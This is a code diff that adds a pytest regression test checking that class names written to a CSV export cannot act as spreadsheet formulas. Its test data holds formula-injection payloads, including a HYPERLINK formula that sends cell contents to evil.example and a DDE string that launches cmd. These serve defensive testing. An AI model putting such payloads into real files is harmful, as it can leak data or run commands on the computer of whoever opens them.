@@ -321,3 +321,19 @@ def test_a_superscript_digit_source_is_a_file_name_not_a_camera():
     from emotion.video import open_video
     with pytest.raises(UserError, match="cannot open video source '²': not a readable video file"):
         open_video("²")
+
+
+def test_csv_cells_from_class_names_cannot_be_spreadsheet_formulas(tmp_path):
+    """Class names come from the model file: '=HYPERLINK(...)' was written raw into --csv (formula injection)."""
+    from emotion.timeline import open_records
+    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "calm"]
+    face = {"track": 1, "box": [1, 2, 3, 4], "emotion": names[0], "confidence": 0.5,
+            "probabilities": dict(zip(names, (0.5, 0.2, 0.1, 0.1, 0.1)))}
+    with open_records(None, str(tmp_path / "r.csv"), names) as write:
+        write({"frame": 0, "time": 0.0, "faces": [face]})
+    with open(tmp_path / "r.csv", newline="") as f:
+        header, row = list(csv.reader(f))
+    cells = header + row
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    assert header[-5:] == ["'" + n for n in names[:4]] + ["calm"] and row[7] == "'" + names[0]
+    assert row[:7] == ["0", "0.0", "1", "1", "2", "3", "4"]
